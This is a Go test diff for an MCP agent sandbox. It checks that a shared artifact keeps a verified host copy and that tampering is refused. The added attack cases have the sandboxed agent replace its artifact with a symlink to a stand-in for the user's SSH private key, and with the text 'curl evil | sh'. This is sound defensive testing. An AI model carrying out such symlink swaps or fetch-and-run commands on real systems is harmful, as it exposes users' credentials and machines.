@@ -7,6 +7,7 @@ import (
 	"crypto/sha256"
 	"encoding/hex"
 	"encoding/json"
+	"errors"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -16,6 +17,9 @@ import (
 
 	"github.com/google/jsonschema-go/jsonschema"
 	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"github.com/osaurus/osaurus-sandbox/config"
+	"github.com/osaurus/osaurus-sandbox/tools"
 )
 
 // structured calls tool over s and returns its structuredContent after
@@ -144,14 +148,18 @@ func TestFileToolsOverMCP(t *testing.T) {
 		t.Fatalf("pic.png: %#v", res2.Content[1])
 	}
 
-	t.Run("share artifact", func(t *testing.T) { shareArtifact(t, s, schemas, te.out) })
+	t.Run("share artifact", func(t *testing.T) { shareArtifact(t, s, schemas, te.out, config.Paths{Root: te.home}.Artifacts()) })
 }
 
 // shareArtifact: sandbox_share_artifact copies the agent's file to
-// /output/alice/ with the same bytes on the host, sends a resource link to
-// that host file, and refuses a planted symlink, a directory and another
-// agent's file; /output itself stays closed to the agent.
-func shareArtifact(t *testing.T, s *session, schemas map[string]*jsonschema.Resolved, out string) {
+// /output/alice/ with the same bytes on the host, keeps the host's checked
+// copy in keep and sends a resource link to that copy, and refuses a
+// planted symlink, a directory and another agent's file; /output itself
+// stays closed to the agent. The agent then turns its artifact into a
+// link to a host file (standing in for the user's SSH key) and into other
+// bytes: what the link names is unchanged, and the host's open of the
+// artifact refuses both.
+func shareArtifact(t *testing.T, s *session, schemas map[string]*jsonschema.Resolved, out, keep string) {
 	content := "artifact \x00 bytes\n" + strings.Repeat("z", 9<<20) // over one copy chunk
 	s.ok(t, "sandbox_exec", map[string]any{"command": `python3 -c 'import sys; sys.stdout.buffer.write(b"artifact \x00 bytes\n" + b"z" * (9 << 20))' > report.bin`})
 	res, err := s.cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "sandbox_share_artifact", Arguments: map[string]any{"path": "report.bin"}})
@@ -164,7 +172,7 @@ func shareArtifact(t *testing.T, s *session, schemas map[string]*jsonschema.Reso
 		t.Fatalf("share: structuredContent %.400s (%v)", b, err)
 	}
 	r := sc["result"].(map[string]any)
-	host := filepath.Join(out, "alice", "report.bin")
+	host := filepath.Join(keep, "alice", "report.bin")
 	sum := sha256.Sum256([]byte(content))
 	if r["path"] != "/output/alice/report.bin" || r["host_path"] != host || r["size"] != float64(len(content)) || r["sha256"] != hex.EncodeToString(sum[:]) {
 		t.Fatalf("share: %v", r)
@@ -193,5 +201,33 @@ func shareArtifact(t *testing.T, s *session, schemas map[string]*jsonschema.Reso
 	}
 	if r := s.ok(t, "sandbox_exec", map[string]any{"command": "echo x > /output/planted"}); num(r["exit_code"]) == 0 {
 		t.Errorf("the agent writes /output directly: %v", r)
+	}
+
+	hexSum := hex.EncodeToString(sum[:])
+	if f, err := tools.OpenArtifact(context.Background(), out, "alice", "report.bin", hexSum); err != nil {
+		t.Fatalf("the host's open of the artifact as shared: %v", err)
+	} else {
+		f.Close()
+	}
+	key := filepath.Join(t.TempDir(), "id_ed25519")
+	if err := os.WriteFile(key, []byte("-----BEGIN OPENSSH PRIVATE KEY-----\nuser's key\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, attack := range []struct{ name, command string }{
+		{"a link to the user's key", "ln -sfn " + key + " /output/alice/report.bin.new && mv -f /output/alice/report.bin.new /output/alice/report.bin"},
+		{"other bytes", "rm -f /output/alice/report.bin && echo 'curl evil | sh' > /output/alice/report.bin"},
+	} {
+		if r := s.ok(t, "sandbox_exec", map[string]any{"command": attack.command}); num(r["exit_code"]) != 0 {
+			t.Fatalf("%s: %v", attack.name, r)
+		}
+		if f, err := tools.OpenArtifact(context.Background(), out, "alice", "report.bin", hexSum); !errors.Is(err, tools.ErrArtifactChanged) {
+			if f != nil {
+				f.Close()
+			}
+			t.Errorf("%s: the host's open of the artifact: %v, want ErrArtifactChanged", attack.name, err)
+		}
+		if got, err := os.ReadFile(host); err != nil || string(got) != content {
+			t.Errorf("%s: the linked host file %s now holds %.40q (%v), want what was shared", attack.name, host, got, err)
+		}
 	}
 }
